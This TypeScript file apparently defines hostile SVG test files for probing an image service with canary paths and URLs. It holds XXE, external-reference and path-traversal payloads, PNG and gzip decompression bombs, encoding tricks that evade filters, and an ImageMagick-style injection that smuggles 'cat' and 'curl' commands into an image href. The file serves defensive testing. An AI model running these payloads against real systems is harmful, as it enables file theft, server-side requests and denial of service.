import { gzipSync } from 'node:zlib';
import type { HostileFile } from '../hostile-file.ts';
import { deflatedZeros } from '../write/deflate.ts';
import { repeated } from '../write/numbers.ts';
import { chunk, head, png } from '../write/png-chunks.ts';
import { sized, svg, unsized } from './document.ts';

const WHOLE = 'width="100" height="100"';
const xml = (href: string, root = 'svg'): string => `<!DOCTYPE ${root} SYSTEM "${href}">`;

/** The text as gzip, followed by this many mebibytes of spaces, each as its own gzip member. */
const gzipped = (text: string, mebibytes: number): Buffer =>
  Buffer.concat([gzipSync(text), repeated(gzipSync(Buffer.alloc(2 ** 20, ' ')), mebibytes)]);

/** A PNG of 9,000 by 9,000 pixels in 80 KB. */
const pngBomb = (): string =>
  png(head({ width: 9000, height: 9000 }), chunk('IDAT', deflatedZeros(9000 * (9000 * 4 + 1)))).toString('base64');

const including = (name: string, tag: (href: string) => string): readonly HostileFile[] => [
  svg('reach', `${name}-file`, `${name} of a path`, ({ canary_file }) => sized(tag(canary_file))),
  svg('reach', `${name}-file-url`, `${name} of a file: URL`, ({ canary_file }) => sized(tag(`file://${canary_file}`))),
  svg('reach', `${name}-url`, `${name} of an http: URL`, ({ canary_url }) => sized(tag(`${canary_url}${name}`))),
];

export const REACHING_SVG: readonly HostileFile[] = [
  ...including('image', (href) => `<image ${WHOLE} href="${href}" xlink:href="${href}"/>`),
  ...including('use', (href) => `<use href="${href}#a" xlink:href="${href}#a"/>`),
  ...including(
    'fe-image',
    (href) => `<filter id="f"><feImage href="${href}" xlink:href="${href}"/></filter><rect ${WHOLE} filter="url(#f)"/>`,
  ),
  ...including(
    'x-include',
    (href) => `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${href}" parse="text"/>`,
  ),
  ...including('css-import', (href) => `<style>@import url("${href}"); @import "${href}";</style>`),
  ...including(
    'font-face',
    (href) => `<style>@font-face{font-family:x;src:url("${href}")}</style><text font-family="x" y="50">a</text>`,
  ),
  ...including(
    'fill',
    (href) => `<rect ${WHOLE} fill="url(${href}#a)" mask="url(${href}#b)" filter="url(${href}#c)"/>`,
  ),
  ...including(
    'script',
    (href) =>
      `<script href="${href}" xlink:href="${href}"/><foreignObject ${WHOLE}><iframe xmlns="http://www.w3.org/1999/xhtml" src="${href}"/></foreignObject>`,
  ),
  svg('reach', 'entity-of-a-file', 'an external entity (XXE)', ({ canary_file }) =>
    sized('<text>&a;</text>', `<!DOCTYPE svg [<!ENTITY a SYSTEM "file://${canary_file}">]>`),
  ),
  svg('reach', 'entity-of-a-url', 'an external entity at a server', ({ canary_url }) =>
    sized('<text>&a;</text>', `<!DOCTYPE svg [<!ENTITY a SYSTEM "${canary_url}entity">]>`),
  ),
  svg('reach', 'parameter-entity', 'an external part of the DTD', ({ canary_url }) =>
    sized('', `<!DOCTYPE svg [<!ENTITY % a SYSTEM "${canary_url}parameter"> %a;]>`),
  ),
  svg('reach', 'parameter-entity-of-a-file', 'a file as a part of the DTD', ({ canary_file }) =>
    sized('', `<!DOCTYPE svg [<!ENTITY % a SYSTEM "file://${canary_file}"> %a;]>`),
  ),
  svg('reach', 'dtd-at-a-server', 'an external DTD', ({ canary_url }) => sized('', xml(`${canary_url}svg.dtd`))),
  svg('reach', 'dtd-in-a-file', 'a DTD in a file', ({ canary_file }) => sized('', xml(`file://${canary_file}`))),
  svg('reach', 'style-sheet', 'a style sheet by processing instruction', ({ canary_file, canary_url }) =>
    sized(
      '',
      `<?xml-stylesheet href="${canary_url}a.css" type="text/css"?><?xml-stylesheet href="file://${canary_file}" type="text/css"?>`,
    ),
  ),
  svg('reach', 'relative-image', 'a path that climbs out', ({ canary_file }) =>
    sized(`<image ${WHOLE} href="${'../'.repeat(30)}${canary_file.slice(1)}"/>`),
  ),
  svg('reach', 'base-of-a-folder', 'xml:base of /, and a path below it', ({ canary_file }) =>
    sized(`<g xml:base="file:///"><image ${WHOLE} href="${canary_file.slice(1)}"/></g>`),
  ),
  svg('reach', 'image-unsized', 'an image where the bounds are asked', ({ canary_file }) =>
    unsized(`<image href="${canary_file}"/>`),
  ),
  svg('reach', 'image-in-a-data-url', 'an SVG in a data: URL, which refers to a file', ({ canary_file, canary_url }) =>
    sized(
      `<image ${WHOLE} href="data:image/svg+xml,${encodeURIComponent(sized(`<image ${WHOLE} href="file://${canary_file}"/><image ${WHOLE} href="${canary_url}inner"/>`))}"/>`,
    ),
  ),
  svg('reach', 'other-protocols', 'ftp:, gopher:, php:, expect:, resource: and UNC', ({ canary_file, canary_url }) => {
    const rest = canary_url.slice('http:'.length);
    return sized(
      ['ftp:', 'gopher:', 'https:', ''].map((protocol) => `<image ${WHOLE} href="${protocol}${rest}x"/>`).join('') +
        ['php://filter/resource=', 'resource:', 'file:', 'text:', 'mvg:', 'ephemeral:']
          .map((protocol) => `<image ${WHOLE} href="${protocol}${canary_file}"/>`)
          .join(''),
    );
  }),
  svg('reach', 'magick-vector', 'what ImageMagick would have run', ({ canary_file, canary_url }) =>
    sized(
      `<image ${WHOLE} xlink:href="https://x&quot;|cat ${canary_file} > ${canary_file}.read|curl &quot;${canary_url}"/>`,
    ),
  ),
  svg('size', 'embedded-png-of-81-million-pixels', 'a PNG in a data: URL', () =>
    sized(`<image ${WHOLE} href="data:image/png;base64,${pngBomb()}"/>`),
  ),
  svg('count', 'embedded-png-many-times', 'the same large PNG 100 times', () =>
    sized(`<image id="a" ${WHOLE} href="data:image/png;base64,${pngBomb()}"/>${'<use href="#a"/>'.repeat(100)}`),
  ),
  svg('size', 'compressed', 'SVGZ of 300 MB', () => gzipped(sized(''), 300), { expects: 'refused' }),
  svg('size', 'compressed-twice', 'SVGZ in SVGZ', () => gzipSync(gzipped(sized(''), 1000)), { expects: 'refused' }),
  svg('disguise', 'utf-16', 'UTF-16, which is not recognised by its first letters', () =>
    Buffer.from(`\ufeff${unsized('<use href="#a"/>')}`, 'utf16le'),
  ),
  svg(
    'disguise',
    'utf-7',
    'UTF-7, in which a filter sees no tag',
    () => `<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI-/+AD4-`,
  ),
  svg(
    'disguise',
    'late-root',
    '60,000 letters of comment before the root',
    () => `<!--${' '.repeat(60_000)}-->${sized('')}`,
  ),
];
